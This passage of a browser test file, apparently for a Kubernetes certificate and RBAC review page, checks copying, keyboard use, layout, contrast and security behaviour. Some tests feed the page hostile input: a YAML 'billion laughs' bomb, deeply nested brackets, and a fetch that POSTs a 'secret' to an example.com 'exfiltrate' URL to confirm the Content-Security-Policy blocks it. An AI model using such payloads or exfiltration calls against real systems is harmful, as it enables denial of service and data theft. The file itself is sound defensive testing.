  assert.equal(json.verdict.level, 'routine');
  const o = json.objects[0];
  assert.equal(o.username, 'alice');
  assert.deepEqual(o.groups, ['developers', 'system:authenticated']);
  assert.ok(Array.isArray(o.findings) && 'not_before' in o && 'not_after' in o);
  // The copy button says it copied only once the clipboard holds the same report.
  await page.getByRole('button', { name: 'Copy report as JSON' }).click();
  await page.getByRole('status').filter({ hasText: 'Report JSON copied to the clipboard.' }).waitFor();
  assert.deepEqual(JSON.parse(await page.evaluate(() => navigator.clipboard.readText())), json);
  // A browser without ClipboardItem: the text is written when it arrives from the worker.
  await page.evaluate(async () => { await navigator.clipboard.writeText(''); delete window.ClipboardItem; });
  await page.getByRole('button', { name: 'Copy report as JSON' }).click();
  await page.waitForFunction(async () => (await navigator.clipboard.readText()).length > 0);
  assert.deepEqual(JSON.parse(await page.evaluate(() => navigator.clipboard.readText())), json);
  assert.equal(await page.getByRole('status').filter({ hasText: 'Report JSON copied to the clipboard.' }).count(), 1);
  await context.close();
});

test('works with the keyboard alone', async () => {
  const { context, page } = await open();
  await page.keyboard.press('Tab');
  assert.match(await page.evaluate(() => document.activeElement.textContent), /Make your own request/, 'first: the way to the learner\'s lab');
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'example-select');
  await page.keyboard.press('ArrowDown');
  await reportText(page, 'Do not approve');
  // Tab through to the first finding's "why" disclosure and open it with the keyboard.
  let opened = false;
  for (let i = 0; i < 40 && !opened; i++) {
    await page.keyboard.press('Tab');
    const tag = await page.evaluate(() => document.activeElement.tagName + ':' + (document.activeElement.textContent || '').slice(0, 40));
    if (tag.startsWith('SUMMARY:Why it matters')) {
      await page.keyboard.press('Enter');
      opened = await page.evaluate(() => document.activeElement.parentElement.open);
    }
  }
  assert.ok(opened, 'a finding explanation can be reached and opened by keyboard');
  // The focus ring is visible.
  const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
  assert.notEqual(outline, 'none');
  await context.close();
});

test('broken and hostile input gives a clear message, never a blank page', async () => {
  const { context, page, errors } = await open();
  await paste(page, 'hello, is this thing on?');
  let text = await reportText(page, 'Could not read the input');
  assert.ok(text.includes('Expected a PEM block'));
  await page.screenshot({ path: path.join(shots, 'error.png'), fullPage: true });
  await paste(page, fixture('truncated.pem'));
  text = await reportText(page, 'truncated');
  await paste(page, fixture('not-kubernetes-csr.yaml'));
  text = await reportText(page, 'a Kubernetes Deployment');
  // A YAML bomb and deep nesting are refused, the page stays alive.
  const bomb = 'a: &a [x,x,x,x,x,x,x,x,x]\n' + 'bcdefgh'.split('').map((k, i) => `${k}: &${k} [${Array(9).fill('*' + 'abcdefgh'[i]).join(',')}]`).join('\n') + '\n';
  await paste(page, bomb);
  text = await reportText(page, 'expected YAML');
  await paste(page, '['.repeat(50_000));
  text = await reportText(page, 'expected JSON');
  await paste(page, fixture('csr-developer.pem'));
  await reportText(page, 'Routine');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a 360 px phone and the dark scheme both render', async () => {
  const { context, page } = await open({ viewport: { width: 360, height: 780 }, colorScheme: 'dark' }, '#example=admin-conf');
  await reportText(page, 'kubernetes-admin@kubernetes');
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.ok(overflow <= 1, `page scrolls sideways by ${overflow}px at 360 px`);
  const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  assert.equal(bg, 'rgb(13, 17, 23)');
  await page.screenshot({ path: path.join(shots, 'phone-dark-admin-conf.png'), fullPage: true });
  await context.close();
});

test('the Content-Security-Policy blocks any outbound connection the page might attempt', async () => {
  const { context, page } = await open();
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched = 'sent';
    try {
      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' });
    } catch {
      fetched = 'blocked';
    }
    await new Promise((r) => setTimeout(r, 50));
    return { fetched, violations };
  });
  assert.equal(outcome.fetched, 'blocked');
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome));
  await context.close();
});

/** WCAG 2 contrast of every visible text element: 4.5:1, or 3:1 for large text. */
async function contrastFailures(page) {
  return page.evaluate(() => {
    const parse = (c) => {
      const m = c.match(/rgba?\(([^)]+)\)/);
      if (!m) return null;
      const p = m[1].split(/[\s,/]+/).filter(Boolean).map(Number);
      return { r: p[0], g: p[1], b: p[2], a: p.length > 3 ? p[3] : 1 };
    };
    const lum = ({ r, g, b }) => {
      const f = (v) => ((v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
      return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b);
    };
    const bgOf = (el) => {
      for (let e = el; e; e = e.parentElement) {
        const c = parse(getComputedStyle(e).backgroundColor);
        if (c && c.a > 0.5) return c;
      }
      return { r: 255, g: 255, b: 255 };
    };
    const tags = new Set(['P', 'SPAN', 'CODE', 'STRONG', 'A', 'LI', 'DT', 'DD', 'TD', 'TH', 'LABEL', 'SUMMARY', 'H1', 'H2', 'H3', 'H4', 'BUTTON', 'TIME', 'CAPTION', 'OPTION', 'SELECT']);
    const out = [];
    for (const el of document.querySelectorAll('body *')) {
      if (!tags.has(el.tagName) || el.closest('.visually-hidden') || el.closest('button:disabled')) continue;
      if (![...el.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim())) continue;
      const box = el.getBoundingClientRect();
      if (box.width === 0 || box.height === 0) continue;
      const cs = getComputedStyle(el);
      const fg = parse(cs.color);
      const bg = bgOf(el);
      const [a, b] = [lum(fg), lum(bg)];
      const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
      const size = parseFloat(cs.fontSize);
      const large = size >= 24 || (size >= 18.66 && Number(cs.fontWeight) >= 700);
      if (ratio < (large ? 3 : 4.5)) out.push(`${el.tagName}.${el.className} "${el.textContent.trim().slice(0, 30)}" ${ratio.toFixed(2)}:1`);
    }
    return [...new Set(out)];
  });
}

test('text meets WCAG AA contrast in the light and the dark scheme', async () => {
  for (const colorScheme of ['light', 'dark']) {
    const { context, page } = await open({ colorScheme });
    const failures = [];
    for (const id of ['csr-system-masters', 'kubeconfig-risky', 'csr-kubelet-client', 'expired-controller-manager', 'csr-node-by-alice', 'chain', 'rbac-amy']) {
      await chooseExample(page, id);
      await page.waitForFunction(() => document.querySelector('.report .object'));
      await page.waitForTimeout(350);
      // Open every disclosure so its text is measured too.
      await page.evaluate(() => document.querySelectorAll('details').forEach((d) => (d.open = true)));
      failures.push(...(await contrastFailures(page)).map((f) => `${colorScheme} ${id}: ${f}`));
    }
    assert.deepEqual([...new Set(failures)], []);
    await context.close();
  }
});
